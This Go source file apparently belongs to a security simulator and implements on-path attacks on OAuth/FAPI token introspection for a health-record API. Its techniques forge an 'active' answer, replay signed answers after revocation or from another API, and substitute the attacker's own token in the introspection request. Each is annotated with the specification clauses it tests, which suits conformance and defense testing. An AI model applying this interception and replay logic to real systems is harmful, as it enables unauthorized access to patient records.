package attacker

import (
	"context"
	"io"
	"net/http"
	"net/url"
	"path"
	"slices"
	"sync"
	"time"

	"thiefbox/sim/event"
	"thiefbox/sim/fapi"
)

// The thief sits on the way from the APIs to their authorization server: a gateway, a service mesh, a proxy that
// ends TLS. He has a token from a proxy's capture and the EHR's DPoP key. The clinician opens the record once more,
// and then signs out, which revokes her tokens. Each row is one way to have the API hear what it should not.
func onTheHop(id, variant, title, story string, reads []string, has []event.Asset, against Trait, beyond string,
	lie func(ctx context.Context, h *hop) error) struct{} {
	return register(id, Technique{
		Variant: variant, Title: title, Story: story, Reads: reads, Beyond: beyond, Against: []Trait{Bound, against},
		Needs: []event.Vantage{event.APIProxy, event.IntrospectionHop}, Has: append(has, event.DPoPKey),
		Run: func(ctx context.Context, g Ground) error {
			a, l, err := stolenTokenAndKey(ctx, g)
			if err != nil {
				return err
			}
			h := &hop{g: g, token: l.token}
			g.Serve(g.Target().HopHost, h)
			if err := g.Lure(g.Target().ClientRecord + path.Base(l.URL)); err != nil {
				return err
			}
			if err := lie(ctx, h); err != nil {
				return err
			}
			g.Wait(30 * time.Second)
			if err := g.Lure(g.Target().ClientLogout); err != nil {
				return err
			}
			_, err = a.read(ctx, l.URL, l.response())
			return err
		},
	})
}

// hop is the thief's place on the way: he is shown each question at /question and each answer at /answer, and
// what he returns goes on. By itself it changes nothing, and keeps the answers.
type hop struct {
	g        Ground
	token    string // the stolen one
	mu       sync.Mutex
	heard    [][]byte
	question func(form url.Values)      // may be nil
	answer   func(honest []byte) []byte // may be nil
}

func (h *hop) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	h.mu.Lock()
	defer h.mu.Unlock()
	body, err := io.ReadAll(r.Body)
	if err != nil {
		w.WriteHeader(http.StatusBadRequest)
		return
	}
	switch form, err := url.ParseQuery(string(body)); {
	case r.URL.Path == "/question" && h.question != nil && err == nil:
		h.question(form)
		body = []byte(form.Encode())
	case r.URL.Path == "/answer" && h.answer != nil:
		body = h.answer(body)
	case r.URL.Path == "/answer":
		h.heard = append(h.heard, body)
	}
	w.Header().Set("Content-Type", r.Header.Get("Content-Type"))
	_, _ = w.Write(body)
}

// play has the API hear the first of the kept answers that is addressed as the honest one is, or to another API.
func (h *hop) play(toTheSame bool) {
	h.answer = func(honest []byte) []byte {
		for _, kept := range h.heard {
			if slices.Equal(addressees(kept), addressees(honest)) == toTheSame {
				return kept
			}
		}
		return honest
	}
}

func addressees(answer []byte) []string {
	var claims fapi.SignedIntrospection
	if t, err := fapi.ParseJWT(string(answer)); err == nil {
		_ = t.Claims(&claims) // what cannot be read is addressed to nobody
	}
	return claims.Audience.Values
}

// active is what the server would have said of the token while it was good.
func (h *hop) active() ([]byte, error) {
	t, err := fapi.ParseJWT(h.token)
	if err != nil {
		return nil, err
	}
	var claims fapi.AccessToken
	err = t.Claims(&claims)
	return fapi.Introspection(&claims, "DPoP"), err
}

var _ = onTheHop("L-09", "tampered", "The answer about a token is altered on its way",
	"The API asks whether the token is good. The server says no, and the thief has the API hear yes, in plain words and without a signature.",
	[]string{"FAPI 2.0 MS 5.5", "RFC 9701 s1"}, nil, Introspected,
	"FAPI 2.0 SP trusts the way from the API to its authorization server: TLS ends where somebody has it end. Message Signing is the "+
		"answer, with signed introspection.",
	func(_ context.Context, h *hop) error {
		yes, err := h.active()
		h.answer = func([]byte) []byte { return yes }
		return err
	})

var _ = onTheHop("L-09/replayed", "replayed", "An answer from before the revocation is played again",
	"The thief keeps what the server said of the token while it was good, signed and addressed to the API. When the token is revoked, the "+
		"API hears it again.",
	[]string{"RFC 9701 s5 (iat)"}, nil, SignedAnswers, "",
	func(_ context.Context, h *hop) error { h.play(true); return nil })

var _ = onTheHop("L-09/other-api", "for-another-api", "An answer that was given to another API",
	"The laboratory's API asks about the token, too. The thief keeps what it was told while the token was good, and has the FHIR API hear that.",
	[]string{"RFC 9701 s5 (aud)", "FAPI 2.0 MS 5.5"}, nil, SignedAnswers, "",
	func(_ context.Context, h *hop) error { h.play(false); return nil })

var _ = onTheHop("L-09/other-token", "about-another-token", "The question is about another token",
	"The thief has a good token of his own. When the API asks about the stolen one, which is revoked, he puts his own into the question. The "+
		"server answers truly, signs it, and addresses it to the API.",
	[]string{"RFC 9701 s5", "RFC 7662 s2.2"}, []event.Asset{event.OwnClient}, Introspected,
	"No specification has an API compare the answer with what it asked: RFC 9701 signs what is said, and not what it is said about.",
	func(ctx context.Context, h *hop) error {
		own, err := ownApp(ctx, h.g)
		if err != nil {
			return err
		}
		t, err := own.signIn(ctx, "openid user/*.rs", h.g.Target().FHIRBase)
		h.question = func(form url.Values) { form.Set("token", t.AccessToken) }
		return err
	})
